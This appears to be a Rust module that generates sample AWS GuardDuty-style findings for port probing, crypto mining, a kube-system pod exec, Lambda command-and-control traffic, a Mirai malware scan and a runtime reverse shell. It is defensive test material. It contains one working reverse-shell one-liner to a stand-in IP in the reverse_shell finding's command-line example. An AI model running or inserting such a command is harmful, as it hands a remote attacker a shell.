//! Findings about what runs: instances, pods, functions, volumes.

use serde_json::json;

use super::parts::{FindingContext, FindingParts, access_key, cluster, evidence, instance, remote};

pub(super) fn port_probe(place: &FindingContext) -> FindingParts {
    let id = format!("i-0{}", place.hex(16));
    FindingParts {
        name: "Recon:EC2/PortProbeUnprotectedPort",
        title: format!("Unprotected port on EC2 instance {id} is being probed."),
        description: format!(
            "EC2 instance {id} has an unprotected port which is being probed by a known malicious host."
        ),
        resource: instance(place, "edge-proxy", "network"),
        service: json!({
            "action": {
                "actionType": "PORT_PROBE",
                "portProbeAction": {
                    "blocked": false,
                    "portProbeDetails": [{
                        "localPortDetails": { "port": 22, "portName": "SSH" },
                        "localIpDetails": { "ipAddressV4": "10.20.4.17" },
                        "remoteIpDetails": remote("198.51.100.23", "Netherlands", "Amsterdam", "64496", "Example Hosting BV"),
                    }],
                },
            },
            "evidence": evidence("ProofPoint", &[]),
        }),
    }
}

pub(super) fn mining(place: &FindingContext) -> FindingParts {
    let id = format!("i-0{}", place.hex(16));
    FindingParts {
        name: "CryptoCurrency:EC2/BitcoinTool.B!DNS",
        title: format!("EC2 instance {id} is querying a domain name associated with Bitcoin-related activity."),
        description: format!(
            "EC2 instance {id} is querying a domain name that is associated with Bitcoin-related activity."
        ),
        resource: instance(place, "build-runner-7", "ci"),
        service: json!({
            "resourceRole": "ACTOR",
            "action": {
                "actionType": "DNS_REQUEST",
                "dnsRequestAction": { "domain": "pool.miner.example", "protocol": "UDP", "blocked": false, "domainWithSuffix": "miner.example" },
            },
            "evidence": evidence("Amazon", &["BitcoinMining"]),
        }),
    }
}

pub(super) fn pod_exec(place: &FindingContext) -> FindingParts {
    FindingParts {
        name: "Execution:Kubernetes/ExecInKubeSystemPod",
        title: "A command was executed inside a pod in the kube-system namespace.".into(),
        description: "A command was executed inside a pod within the kube-system namespace on EKS cluster prod-1."
            .into(),
        resource: json!({
            "resourceType": "EKSCluster",
            "eksClusterDetails": cluster(place, "prod-1"),
            "kubernetesDetails": {
                "kubernetesUserDetails": {
                    "username": "alice@corp.example", "uid": "aws-iam-authenticator:alice", "groups": ["ops", "system:authenticated"],
                },
                "kubernetesWorkloadDetails": { "name": "coredns-5d78c9869d-x2kqv", "namespace": "kube-system", "type": "pods" },
            },
            "accessKeyDetails": access_key(place, "ops-admin", "AssumedRole"),
        }),
        service: json!({
            "action": {
                "actionType": "KUBERNETES_API_CALL",
                "kubernetesApiCallAction": {
                    "requestUri": "/api/v1/namespaces/kube-system/pods/coredns-5d78c9869d-x2kqv/exec", "verb": "create",
                    "resource": "pods", "subresource": "exec", "namespace": "kube-system", "statusCode": 101,
                    "sourceIPs": ["203.0.113.5"], "userAgent": "kubectl/v1.31.0 (linux/amd64)",
                    "remoteIpDetails": remote("203.0.113.5", "France", "Paris", "64501", "Example Fibre"),
                },
            },
        }),
    }
}

pub(super) fn lambda_command(place: &FindingContext) -> FindingParts {
    FindingParts {
        name: "Backdoor:Lambda/C&CActivity.B",
        title: "The Lambda function thumbnailer is communicating with a command and control server.".into(),
        description: "Lambda function thumbnailer is communicating with a remote host on a threat list.".into(),
        resource: json!({
            "resourceType": "Lambda",
            "lambdaDetails": {
                "functionName": "thumbnailer", "functionArn": place.arn("lambda", "function:thumbnailer"), "functionVersion": "17",
                "description": "makes small pictures", "role": format!("arn:aws:iam::{}:role/thumbnailer", place.account),
                "lastModifiedAt": 1_767_225_600.0, "revisionId": "a1b2c3d4", "tags": [{ "key": "owner", "value": "media" }],
                "vpcConfig": { "vpcId": "vpc-0d1e2f3a", "subnetIds": ["subnet-0a1b2c3d"], "securityGroups": [{ "groupId": "sg-0123abcd", "groupName": "thumbnailer" }] },
            },
        }),
        service: json!({
            "resourceRole": "ACTOR",
            "action": {
                "actionType": "NETWORK_CONNECTION",
                "networkConnectionAction": {
                    "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false,
                    "localPortDetails": { "port": 44310, "portName": "Unknown" },
                    "remotePortDetails": { "port": 443, "portName": "HTTPS" },
                    "localIpDetails": { "ipAddressV4": "10.20.9.3" },
                    "remoteIpDetails": remote("198.51.100.90", "Romania", "Bucharest", "64503", "Example Bulletproof SRL"),
                },
            },
            "evidence": evidence("CrowdStrike", &["Cobalt Strike"]),
        }),
    }
}

pub(super) fn malware(place: &FindingContext) -> FindingParts {
    let mut resource = instance(place, "wiki-2", "it");
    resource["ebsVolumeDetails"] = json!({
        "scannedVolumeDetails": [{
            "volumeArn": place.arn("ec2", "volume/vol-0a1b2c3d4e5f60718"), "volumeType": "gp3", "deviceName": "/dev/xvda",
            "volumeSizeInGB": 30, "encryptionType": "UNENCRYPTED", "snapshotArn": place.arn("ec2", "snapshot/snap-0a1b2c3d"),
        }],
    });
    FindingParts {
        name: "Execution:EC2/MaliciousFile",
        title: "2 security risks detected on an EC2 instance.".into(),
        description: "A malware scan has detected 2 security risks on the EC2 instance wiki-2.".into(),
        resource,
        service: json!({
            "featureName": "EbsVolumeScan",
            "ebsVolumeScanDetails": {
                "scanId": "5f1d0c2b7a", "scanStartedAt": place.at, "scanCompletedAt": place.at + 240.0, "scanType": "GUARDDUTY_INITIATED",
                "sources": ["Amazon", "Bitdefender"], "triggerFindingId": "0123456789abcdef0123456789abcdef",
                "scanDetections": {
                    "scannedItemCount": { "totalGb": 30, "files": 184_220, "volumes": 1 },
                    "threatsDetectedItemCount": { "files": 2 },
                    "highestSeverityThreatDetails": { "severity": "HIGH", "threatName": "Linux.Mirai.B", "count": 2 },
                    "threatDetectedByName": {
                        "itemCount": 2, "uniqueThreatNameCount": 1, "shortened": false,
                        "threatNames": [{
                            "name": "Linux.Mirai.B", "severity": "HIGH", "itemCount": 2,
                            "filePaths": [
                                { "filePath": "tmp/.x/kworker", "fileName": "kworker", "volumeArn": place.arn("ec2", "volume/vol-0a1b2c3d4e5f60718"), "hash": "0e5cb6ab10e4b3d2e3e2cb6a6a2b9d7a" },
                                { "filePath": "tmp/.x/cron", "fileName": "cron", "volumeArn": place.arn("ec2", "volume/vol-0a1b2c3d4e5f60718"), "hash": "7a6e1f0b54a2c9d8e7f60718293a4b5c" },
                            ],
                        }],
                    },
                },
            },
        }),
    }
}

pub(super) fn reverse_shell(place: &FindingContext) -> FindingParts {
    FindingParts {
        name: "Execution:Runtime/ReverseShell",
        title: "A reverse shell was created by a process in the container web.".into(),
        description: "A process in the container web has made a reverse shell to a remote host.".into(),
        resource: json!({
            "resourceType": "EKSCluster",
            "eksClusterDetails": cluster(place, "prod-1"),
            "kubernetesDetails": {
                "kubernetesWorkloadDetails": {
                    "name": "checkout-7c9f", "namespace": "payments", "type": "pods", "serviceAccountName": "checkout", "hostNetwork": false,
                    "containers": [{ "name": "web", "image": "registry.corp.example/payments/checkout:3.4.1", "id": "containerd-91ab", "containerRuntime": "containerd" }],
                },
            },
            "instanceDetails": instance(place, "prod-1-node", "platform")["instanceDetails"].take(),
        }),
        service: json!({
            "featureName": "RuntimeMonitoring",
            "action": { "actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
                "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false,
                "localPortDetails": { "port": 50122, "portName": "Unknown" }, "remotePortDetails": { "port": 4444, "portName": "Unknown" },
                "remoteIpDetails": remote("198.51.100.44", "Moldova", "Chisinau", "64504", "Example Cloud"),
            }},
            "runtimeDetails": {
                "process": {
                    "name": "bash", "executablePath": "/usr/bin/bash", "executableSha256": "f3a6e1d2c4b5968778695a4b3c2d1e0ff3a6e1d2c4b5968778695a4b3c2d1e0f",
                    "pwd": "/srv/app", "pid": 4711, "uuid": "a1", "parentUuid": "a0", "user": "www-data", "userId": 33, "euid": 33, "namespacePid": 71,
                    "startTime": place.at,
                    "lineage": [
                        { "name": "node", "pid": 1, "uuid": "a0", "parentUuid": "-", "executablePath": "/usr/local/bin/node", "userId": 33, "euid": 33 },
                        { "name": "sh", "pid": 70, "uuid": "a2", "parentUuid": "a0", "executablePath": "/bin/sh", "userId": 33, "euid": 33 },
                    ],
                },
                "context": { "commandLineExample": "bash -i >& /dev/tcp/198.51.100.44/4444 0>&1", "socketPath": "" },
            },
        }),
    }
}
